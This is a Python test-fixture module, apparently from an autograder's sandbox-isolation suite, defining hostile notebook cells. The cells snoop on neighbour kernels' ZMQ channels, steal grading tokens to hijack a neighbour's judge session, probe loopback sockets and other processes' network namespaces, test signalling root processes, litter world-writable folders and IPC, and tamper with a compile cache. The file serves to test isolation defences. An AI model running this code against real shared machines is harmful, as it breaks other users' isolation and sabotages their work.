"""Hostile entries: Kernels that reach for each other: a neighbour's IOPub, its judge session, loopback services, leftovers in shared folders and IPC.

Each entry is a correct notebook plus one cell that attacks and prints what it found, so it earns
its full points and the tests read the verdict from its own outputs (the autograded notebook):

- ``snoops-neighbour-kernels`` looks everywhere a neighbour kernel's ZMQ endpoints or judge socket
  could show (``/proc/net/*`` of its own and of the machine, every process's command line, the
  kernels' socket folders, connection files, abstract Unix sockets), subscribes to each IOPub it
  can reach, reads the grade cells' ``serve(..., address, token)`` calls off it and races the
  neighbour to its judge: it takes the session and hangs up, so a neighbour it beat loses that
  cell's points. Serial, it finds nothing; ``tests/test_isolation_parallel.py`` runs it with a
  victim graded at the same time (``--workers 2``);
- ``connects-to-loopback`` tries the machine's loopback (TCP, and the Unix sockets of ``/run``),
  the network namespace of process 1 and of nbgrader, and signals nbgrader's processes;
- ``leaves-files-and-ipc`` writes a file in every world-writable folder it finds, makes System V
  shared memory, a semaphore set and a message queue, and POSIX shared memory; the parallel test
  checks none of it is on the machine afterwards.

No cell imports ``ctypes``, ``gc`` or the grading package (``autograder.grading.reach`` would
withhold evidence points): what needs raw system calls runs as ``ipcmk``, a system program.
"""

from __future__ import annotations

from .model import CM, SMM, Hostile, points
from .notebooks import insert_after

#: The mark a leftover file carries in its name, and the System V key of the leftover IPC objects.
LEFTOVER = "kernel-leftover"
#: How the snooper announces each look; the tests read these lines.
SNOOP_SAYS = "snoop:"

#: Looks for neighbours' endpoints for ``{seconds}`` seconds (format the source with ``seconds=`` and
#: ``ports=``, a list of TCP ports to try besides those it discovers), then prints what it reached.
SNOOPS_NEIGHBOURS = r'''
import glob, json, os, re, socket, time
import zmq

_WATCH_SECONDS, _EXTRA_PORTS = {seconds}, {ports}

def _lines(path):
    try:
        with open(path) as f:
            return f.read().splitlines()[1:]
    except OSError:
        return None

def _own_unix():
    return {{row.split()[7] for row in _lines("/proc/net/unix") or [] if len(row.split()) > 7}}

def _tcp_ports(path):
    rows = _lines(path)
    return None if rows is None else {{int(r.split()[1].rsplit(":", 1)[1], 16) for r in rows if r.split()[3] == "0A"}}

def _others():
    for entry in os.listdir("/proc"):
        if entry.isdigit() and int(entry) != os.getpid():
            yield int(entry)

def _uid(pid):
    try:
        with open(f"/proc/{{pid}}/status") as f:
            return int(next(l for l in f if l.startswith("Uid:")).split()[1])
    except (OSError, StopIteration, ValueError):
        return None

def _look(seen, tried):
    own = _own_unix()
    seen["neighbour kernels"].update(u for u in map(_uid, _others()) if u and u >= 1_000_000 and u != os.getuid())
    unix = set()
    for pid in [1, *_others()]:
        for kind in ("unix",):
            rows = _lines(f"/proc/{{pid}}/net/{{kind}}")
            if rows is not None:
                seen["host listings readable"].add(pid)
                unix.update(r.split()[7] for r in rows if len(r.split()) > 7)
        try:
            with open(f"/proc/{{pid}}/cmdline", "rb") as f:
                argv = f.read().decode(errors="replace").split("\0")
        except OSError:
            continue
        for i, arg in enumerate(argv[:-1]):
            if arg in ("--sockets", "-f", "--socket"):
                seen["paths named on command lines"].add(argv[i + 1])
        for listing in ("fd", "root/tmp", "cwd", "ns"):
            try:
                os.listdir(f"/proc/{{pid}}/{{listing}}")
                seen["processes' " + listing + " opened"].add(pid)
            except OSError:
                pass
    folders = set(glob.glob("/tmp/*/*")) | {{p for p in seen["paths named on command lines"]}}
    files = set()
    for folder in folders:
        for path in glob.glob(os.path.join(glob.escape(folder), "*")) + [folder]:
            files.add(path)
    for pattern in ("/run/user/*/jupyter/*.json", "/root/.local/share/jupyter/runtime/*.json",
                    os.path.expanduser("~/.local/share/jupyter/runtime/*.json"), "/tmp/*.json", "/tmp/*/*.json"):
        files.update(glob.glob(pattern))
    ports = set(_EXTRA_PORTS)
    for pid in [1, *_others()]:
        ports |= _tcp_ports(f"/proc/{{pid}}/net/tcp") or set()
    seen["own listeners"] |= _tcp_ports("/proc/net/tcp") or set()  # this kernel's own loopback: nothing to take
    ports -= seen["own listeners"]
    endpoints = set()
    for path in files:
        if path.endswith(".json"):
            try:
                with open(path) as f:
                    info = json.load(f)
                seen["connection files read"].add(path)
                if info.get("transport") == "ipc":
                    endpoints.add(("ipc", f"{{info['ip']}}-{{info['iopub_port']}}"))
                else:
                    ports.add(int(info["iopub_port"]))
            except (OSError, ValueError, KeyError, TypeError):
                pass
        else:
            endpoints.add(("ipc", path))
    for name in unix:
        if name not in own:
            endpoints.add(("abstract", name[1:]) if name.startswith("@") else ("ipc", name))
    for port in ports:
        endpoints.add(("tcp", port))
    for kind, where in endpoints:
        if (kind, where) in tried or (kind == "ipc" and where in own):
            continue
        tried.add((kind, where))
        seen["endpoints tried"].add((kind, where))
        family = socket.AF_INET if kind == "tcp" else socket.AF_UNIX
        address = ("127.0.0.1", where) if kind == "tcp" else ("\0" + where if kind == "abstract" else where)
        with socket.socket(family, socket.SOCK_STREAM) as probe:
            probe.settimeout(0.5)
            try:
                probe.connect(address)
            except OSError:
                continue
        seen["endpoints reached"].add((kind, where))
        if kind != "abstract":
            seen["subscriptions"].append("ipc://" + where if kind == "ipc" else f"tcp://127.0.0.1:{{where}}")

_seen = {{"neighbour kernels": set(), "own listeners": set(), "host listings readable": set(), "paths named on command lines": set(), "connection files read": set(),
          "endpoints tried": set(), "endpoints reached": set(), "subscriptions": [],
          **{{"processes' " + l + " opened": set() for l in ("fd", "root/tmp", "cwd", "ns")}}}}
_tried, _context = set(), zmq.Context()
_sub = _context.socket(zmq.SUB)
_sub.setsockopt(zmq.SUBSCRIBE, b"")
_subscribed, _sources, _taken = set(), [], []
_deadline = time.monotonic() + _WATCH_SECONDS
while True:
    _look(_seen, _tried)
    for _endpoint in _seen["subscriptions"]:
        if _endpoint not in _subscribed:
            _sub.connect(_endpoint)
            _subscribed.add(_endpoint)
    while _sub.poll(200):
        for _part in _sub.recv_multipart():
            _text = _part.decode(errors="replace")
            if '"code"' in _text:
                _sources.append(_text)
            for _address, _token in re.findall(r"globals\(\), '([^']+)', '([0-9a-f]{{32}})'", _text.replace('\\"', '"')):
                try:  # the neighbour's session, taken and hung up: its cell gets no answer
                    _family = socket.AF_UNIX if _address.startswith("unix:") else socket.AF_INET
                    _to = _address[5:] if _address.startswith("unix:") else (_address.rsplit(":", 1)[0], int(_address.rsplit(":", 1)[1]))
                    with socket.socket(_family, socket.SOCK_STREAM) as _stolen:
                        _stolen.connect(_to)
                        _stolen.sendall(json.dumps({{"token": _token}}).encode() + b"\n")
                        time.sleep(0.5)
                    _taken.append(_address)
                except OSError:
                    pass
    if time.monotonic() > _deadline:
        break
    time.sleep(0.3)
_sub.close(0)
_context.term()
print("{says} neighbour kernels seen running:", len(_seen["neighbour kernels"]))
print("{says} process listings of the machine readable for", len(_seen["host listings readable"]), "processes")
for _key in ("fd", "root/tmp", "cwd", "ns"):
    print("{says} other processes' /proc/PID/" + _key + " opened:", len(_seen["processes' " + _key + " opened"]))
print("{says} socket paths named on command lines:", len(_seen["paths named on command lines"]))
print("{says} connection files read:", len(_seen["connection files read"]))
print("{says} own loopback listeners (not tried):", sorted(_seen["own listeners"]))
print("{says} endpoints tried:", len(_seen["endpoints tried"]), "reached:", len(_seen["endpoints reached"]))
for _reached in sorted(map(str, _seen["endpoints reached"])):
    print("{says} reached", _reached)
print("{says} neighbour cell sources read:", len(_sources), "sessions taken:", len(_taken))
'''.replace("{says}", SNOOP_SAYS)

#: Tries the machine's loopback and Unix sockets, the network namespaces of others, and signals.
#: Format with ``ports=`` (TCP ports of the test's own listeners, tried besides PostgreSQL's).
CONNECTS_TO_LOOPBACK = r'''
import errno, os, socket, stat, subprocess

_PORTS = sorted({{5432, 8888, *{ports}}})

def _try(family, address):
    with socket.socket(family, socket.SOCK_STREAM) as s:
        s.settimeout(1)
        try:
            s.connect(address)
            return "connected"
        except OSError as error:
            return errno.errorcode.get(error.errno, str(error.errno))

_reached = []
for _port in _PORTS:
    for _family, _host in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")):
        _result = _try(_family, (_host, _port))
        print(f"loopback {{_host}} port {{_port}}: {{_result}}")
        if _result == "connected":
            _reached.append(_port)
_sockets = list({paths})  # named outright: a folder hidden from the kernel shows no socket to find
for _top in ("/run", "/var/run", "/dev", "/var/lib"):
    for _folder, _dirs, _files in os.walk(_top):
        for _name in _files:
            _path = os.path.join(_folder, _name)
            try:
                if stat.S_ISSOCK(os.lstat(_path).st_mode):
                    _sockets.append(_path)
            except OSError:
                pass
for _path in _sockets:
    _result = _try(socket.AF_UNIX, _path)
    print(f"unix socket {{_path}}: {{_result}}")
    if _result == "connected":
        _reached.append(_path)
def _roots():
    for p in os.listdir("/proc"):
        try:
            if p.isdigit() and int(p) != os.getpid() and os.stat(f"/proc/{{p}}").st_uid == 0:
                yield int(p)
        except OSError:
            pass
_nbgrader = sorted(_roots())
for _pid in [1, os.getppid(), *_nbgrader[-3:]]:
    try:
        os.close(os.open(f"/proc/{{_pid}}/ns/net", os.O_RDONLY))
        _ns = "opened"
    except OSError as error:
        _ns = "open: " + errno.errorcode.get(error.errno, str(error.errno))
    _entered = subprocess.run(["nsenter", f"--net=/proc/{{_pid}}/ns/net", "true"], capture_output=True)
    _ns += ", entered" if _entered.returncode == 0 else ", not entered"
    print(f"network namespace of process {{_pid}}: {{_ns}}")
    if _entered.returncode == 0:
        _reached.append(f"netns {{_pid}}")
_signalled = []
for _pid in [1, os.getppid(), *_nbgrader]:
    try:
        os.kill(_pid, 0)  # the permission check of any signal: a hostile cell would send SIGSTOP
        _signalled.append(_pid)
    except OSError as error:
        pass
print("root's processes that could be signalled:", len(_signalled), "of", len(_nbgrader))
_unshared = subprocess.run(["unshare", "-Urn", "cat", "/proc/self/net/tcp"], capture_output=True, text=True)
print("a user namespace of its own:", "yes" if _unshared.returncode == 0 else "no", "(a loopback of its own only)")
print("loopback and machine sockets reached: " + str(len(_reached)) + " " + str(_reached[:5]))
'''

#: Leaves a file in every world-writable folder it finds and IPC objects of every kind.
LEAVES_FILES_AND_IPC = r'''
import os, subprocess
from multiprocessing import shared_memory

_written, _refused = [], []
for _folder, _dirs, _files in os.walk("/", topdown=True):
    _dirs[:] = [d for d in _dirs if os.path.join(_folder, d) not in ("/proc", "/sys")]
    if os.stat(_folder).st_mode & 0o002 and os.access(_folder, os.W_OK):
        _path = os.path.join(_folder, f"{mark}-{{os.getpid()}}")
        try:
            with open(_path, "w") as _f:
                _f.write("left by a grading kernel\n")
            _written.append(_folder)
        except OSError:
            _refused.append(_folder)
print("files left in world-writable folders:", sorted(_written), "refused:", sorted(_refused))
_made = []
for _kind in ("-M", "-S", "-Q"):
    _args = ["ipcmk", _kind, "65536"] if _kind == "-M" else (["ipcmk", _kind, "4"] if _kind == "-S" else ["ipcmk", _kind])
    _done = subprocess.run(_args, capture_output=True, text=True)
    _made.append((_kind, _done.returncode, _done.stdout.strip()))
print("System V objects made:", _made)
_posix = shared_memory.SharedMemory(name="{mark}", create=True, size=65536)
_posix.buf[:5] = b"still"
print("POSIX shared memory made:", _posix.name)
print("ipcs in the kernel:", subprocess.run(["ipcs"], capture_output=True, text=True).stdout.count("0x"), "objects")
'''.format(mark=LEFTOVER)


#: Goes after the compile cache the kernel reads (autograder/grading/compile_cache.py), found through
#: JAX's own setting (naming the grader would trip the reach scan): lists it, makes an entry, opens a
#: file there to write, changes its mode, guesses at a lock to hold (a held one once stalled every
#: later command), and has JAX itself write an entry.
GOES_AFTER_THE_COMPILE_CACHE = r'''
import fcntl, os
import jax, jax.numpy as jnp

_where = jax.config.jax_compilation_cache_dir
_managed = []

def _attempt(name, thunk):
    try:
        thunk()
        _managed.append(name)
    except OSError:
        pass

def _hold(name):
    _f = open(os.path.join(_where, name))
    fcntl.flock(_f, fcntl.LOCK_EX | fcntl.LOCK_NB)

if _where:
    _attempt("listed it", lambda: os.listdir(_where))
    _attempt("made an entry", lambda: open(os.path.join(_where, "jit_f-" + "0" * 64 + "-cache"), "wb").close())
    _attempt("opened a file to write", lambda: open(os.path.join(_where, ".lock"), "a").close())
    _attempt("changed its mode", lambda: os.chmod(_where, 0o777))
    for _name in (".lock", "compile-cache.lock", "../compile-cache.lock", "lock", ".lockfile"):
        _attempt("held " + _name, lambda: _hold(_name))
    jax.config.update("jax_persistent_cache_min_compile_time_secs", 0)
    jax.config.update("jax_persistent_cache_min_entry_size_bytes", 0)
    jax.jit(lambda v: jnp.cos(v) * 41.5 + 0.25)(jnp.arange(7.0)).block_until_ready()
    jax.config.update("jax_persistent_cache_min_compile_time_secs", 1e9)
print("compile cache:", "lent" if _where else "not lent", "| managed:", ", ".join(_managed) or "nothing")
'''


def snoops_neighbours(seconds: float = 2, ports: tuple[int, ...] = ()) -> str:
    return SNOOPS_NEIGHBOURS.format(seconds=seconds, ports=list(ports))


def connects_to_loopback(ports: tuple[int, ...] = (), paths: tuple[str, ...] = ("/run/postgresql/.s.PGSQL.5432",)) -> str:
    return CONNECTS_TO_LOOPBACK.format(ports=list(ports), paths=list(paths))


ENTRIES: tuple[Hostile, ...] = (
    Hostile(
        # Serial, no neighbour runs at once: the snooper finds nothing to read. Its neighbour under
        # `--workers 2`, and what it must not win there, are in tests/test_isolation_parallel.py.
        "snoops-neighbour-kernels", SMM, (insert_after("choose", snoops_neighbours()),),
        points(SMM), feedback=SNOOP_SAYS + r" neighbour cell sources read: 0 sessions taken: 0",
    ),
    Hostile(
        "connects-to-loopback", CM, (insert_after("miss_cause", connects_to_loopback()),),
        points(CM), feedback=r"loopback and machine sockets reached: 0 \[\]",
    ),
    Hostile(
        "goes-after-the-compile-cache", SMM, (insert_after("choose", GOES_AFTER_THE_COMPILE_CACHE),),
        points(SMM), feedback=r"compile cache: lent \| managed: nothing",
    ),
    Hostile(
        "leaves-files-and-ipc", SMM, (insert_after("choose", LEAVES_FILES_AND_IPC),),
        points(SMM), feedback=r"POSIX shared memory made: /?" + LEFTOVER,
    ),
)
